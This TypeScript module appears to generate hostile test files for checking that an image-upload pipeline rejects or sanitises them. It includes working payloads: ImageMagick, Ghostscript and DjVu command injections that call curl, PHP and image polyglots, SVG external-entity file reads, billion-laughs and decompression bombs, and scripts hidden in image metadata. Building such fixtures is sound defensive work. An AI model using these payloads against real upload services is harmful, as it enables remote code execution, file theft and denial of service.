import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

export interface HostileFile {
  readonly what: string
  readonly bytes: Buffer
}

const SCRIPT = '<script>alert("hidden")</script>'
const file = (what: string, bytes: Buffer | string): HostileFile => ({ what, bytes: Buffer.from(bytes) })

/**
 * @param call the address of a listener that must never be called
 * @param path a file that must never be read
 */
export const noPictures = async (call: string, path: string): Promise<HostileFile[]> => {
  const { png, jpg } = await plain()
  const other = sharp(png)
  return [
    ...drawings(call, path).map(([what, text]) => file(what, text)),
    ...(await Promise.all(
      (['webp', 'gif', 'tiff', 'avif'] as const).map(async format =>
        file(`a ${format}`, await other.clone().toFormat(format).toBuffer()),
      ),
    )),
    file('EICAR', `X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`),
    file('a page', `<!doctype html>${SCRIPT}`),
    file('a PDF', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`),
    file('a program', Buffer.from('7f454c460201010000000000000000000200', 'hex')),
    file('a Windows program', 'MZ\u0090\u0000This program cannot be run in DOS mode'),
    file('a script', `#!/bin/sh\ncurl ${call}`),
    file('PHP', `\u00ff\u00d8\u00ff<?php system("curl ${call}"); ?>`),
    file('PHP after GIF', `GIF89a<?php echo file_get_contents("${path}"); ?>`),
    file('a zip', Buffer.from('504b0304140000000000', 'hex')),
    file('an archive for Java that is also a GIF', 'GIF89aPK\u0003\u0004'),
    file('nothing but zeros', Buffer.alloc(4_096)),
    file('nothing but 0xff', Buffer.alloc(4_096, 0xff)),
    file('a signature alone', png.subarray(0, 8)),
    file('a JPEG signature alone', jpg.subarray(0, 3)),
    file(
      'a PNG under another order of bytes',
      Buffer.concat([png.subarray(0, 8).toReversed(), png.subarray(8)].map(part => Buffer.from(part))),
    ),
    ...[0.1, 0.3, 0.5, 0.9].flatMap(share => [
      file(`${share * 100} % of a PNG`, png.subarray(0, Math.floor(png.length * share))),
      file(`${share * 30} % of a JPEG`, jpg.subarray(0, Math.floor(jpg.length * share * 0.3))),
    ]),
    file('a PNG whose first checksum is wrong', changed(png, 29, 1)),
    file('a PNG of no width', sized(0, 10)),
    file('a PNG of no height', sized(10, 0)),
    file('a PNG of another depth', changed(png, 24, 7)),
    file('a PNG of another colour', changed(png, 25, 9)),
    file('a PNG without points', Buffer.concat([png.subarray(0, 33), chunk('IEND')])),
    file(
      'a PNG of one chunk that is longer than the file',
      Buffer.concat([png.subarray(0, 33), Buffer.from('7fffffff49444154', 'hex')]),
    ),
    file(
      'the first bytes of a PNG and then a page',
      Buffer.concat([png.subarray(0, 33), Buffer.from(SCRIPT)]),
    ),
    file(
      'the first bytes of a JPEG and then a page',
      Buffer.concat([jpg.subarray(0, 20), Buffer.from(SCRIPT)]),
    ),
    file('an icon', Buffer.from('00000100010010100000010020006804000016000000', 'hex')),
    file('a bitmap', Buffer.from('424d460000000000000036000000280000000200', 'hex')),
    file('a Photoshop file', '8BPS\u0000\u0001'),
    file(
      'a DjVu file with a note',
      `AT&TFORM\u0000\u0000\u0000\u0000DJVUANTa(metadata "\\c\${system('curl ${call}')}")`,
    ),
  ]
}

/** `gone` is part of the hidden data, which storing must remove. */
export const picturesWithMore = async (): Promise<(HostileFile & { readonly gone: string })[]> => {
  const { png, jpg } = await plain()
  const gone = 'hidden'
  const text = (type: string, body: Buffer) =>
    Buffer.concat([png.subarray(0, 33), chunk(type, body), png.subarray(33)])
  const note = (marker: string, body: string) =>
    Buffer.concat([
      jpg.subarray(0, 2),
      Buffer.from(marker, 'hex'),
      u16(body.length + 2),
      Buffer.from(body),
      jpg.subarray(2),
    ])
  return [
    { ...file('a page behind a PNG', Buffer.concat([png, Buffer.from(SCRIPT)])), gone },
    { ...file('a page behind a JPEG', Buffer.concat([jpg, Buffer.from(SCRIPT)])), gone },
    { ...file('a zip behind a PNG', Buffer.concat([png, Buffer.from('PK\u0003\u0004hidden')])), gone },
    { ...file('a note of a PNG', text('tEXt', Buffer.from(`Comment\u0000${SCRIPT}`))), gone },
    { ...file('an unknown part of a PNG', text('prVt', Buffer.from(SCRIPT))), gone },
    {
      ...file(
        'XMP of a PNG',
        text('iTXt', Buffer.from(`XML:com.adobe.xmp\u0000\u0000\u0000\u0000\u0000${SCRIPT}`)),
      ),
      gone,
    },
    { ...file('a comment of a JPEG', note('fffe', SCRIPT)), gone },
    { ...file('a note of a JPEG', note('ffe1', `http://ns.adobe.com/xap/1.0/\u0000${SCRIPT}`)), gone },
    { ...file('a thumbnail of a JPEG', note('ffe0', `JFXX\u0000\u0010${SCRIPT}`)), gone },
    { ...file('PHP in a comment', note('fffe', '<?php hidden(); ?>')), gone },
  ]
}

export const bombs = async (): Promise<HostileFile[]> => {
  const { png } = await plain()
  const flat = (type: string, prefix: string, megabytes: number) =>
    Buffer.concat([
      png.subarray(0, 33),
      chunk(
        type,
        Buffer.concat([
          Buffer.from(prefix),
          deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 }),
        ]),
      ),
      png.subarray(33),
    ])
  return [
    file('100 million points', sized(10_000, 10_000)),
    file('400 million points', sized(20_000, 20_000)),
    file('two billion points a side', sized(0x7fffffff, 0x7fffffff)),
    file('one line of 25 million points', sized(25_000_000, 1)),
    file('a JPEG of 65,500 points a side', jpegOf(65_500)),
    file('a note of 50 MB', flat('zTXt', 'Comment\u0000\u0000', 50)),
    file('colours of 20 MB', flat('iCCP', 'profile\u0000\u0000', 20)),
    file(
      'a GIF of 65,535 points a side',
      Buffer.from('474946383961ffffffff80000000000000ffffff2c00000000ffffffff0002024401003b', 'hex'),
    ),
  ]
}

const drawings = (call: string, path: string): [string, string][] => [
  ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
  ['a drawing with a script', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
  [
    'a drawing that fetches',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${call}"/></svg>`,
  ],
  ['a drawing that reads', `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${path}"/></svg>`],
  [
    'a drawing with an entity',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${path}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  ],
  [
    'a drawing of a thousand laughs',
    `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "${'&a;'.repeat(100)}">]><svg>${'&b;'.repeat(100)}</svg>`,
  ],
  [
    'ImageMagick’s own language',
    `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${call}"|curl ${call}")'\npop graphic-context`,
  ],
  [
    'ImageMagick’s MSL',
    `<?xml version="1.0"?><image><read filename="${call}"/><write filename="/tmp/x.php"/></image>`,
  ],
  [
    'PostScript',
    `%!PS\nuserdict /setpagedevice undef\nmark /OutputFile (%pipe%curl ${call}) currentdevice putdeviceprops`,
  ],
  [
    'a list of films',
    `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${call}\nconcat:${call}|file://${path}\n#EXT-X-ENDLIST`,
  ],
  ['an address alone', call],
  ['a picture of text', `text:${path}`],
  ['a portable map of another size', 'P6 99999 99999 255\n'],
]

const plain = async () => {
  const made = sharp({ create: { width: 64, height: 48, channels: 3, background: '#126358' } })
  return { png: await made.clone().png().toBuffer(), jpg: await made.clone().jpeg().toBuffer() }
}

const u16 = (value: number) => Buffer.from([value >> 8, value & 255])
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value >>> 0)
  return bytes
}

const chunk = (type: string, body: Buffer = Buffer.alloc(0)): Buffer => {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), body])
  return Buffer.concat([u32(body.length), named, u32(crc32(named))])
}

const sized = (width: number, height: number): Buffer =>
  Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.concat([u32(width), u32(height), Buffer.from([1, 0, 0, 0, 0])])),
    chunk(
      'IDAT',
      deflateSync(Buffer.alloc(Math.min(13_000_000, Math.ceil(width / 8 + 1) * height)), { level: 9 }),
    ),
    chunk('IEND'),
  ])

const jpegOf = (side: number): Buffer =>
  Buffer.concat([
    Buffer.from('ffd8ffc0000b08', 'hex'),
    u16(side),
    u16(side),
    Buffer.from('01011100ffda0008010100003f00', 'hex'),
    Buffer.alloc(64),
    Buffer.from('ffd9', 'hex'),
  ])

const changed = (bytes: Buffer, at: number, value: number): Buffer => {
  const copy = Buffer.from(bytes)
  copy[at] = value
  return copy
}
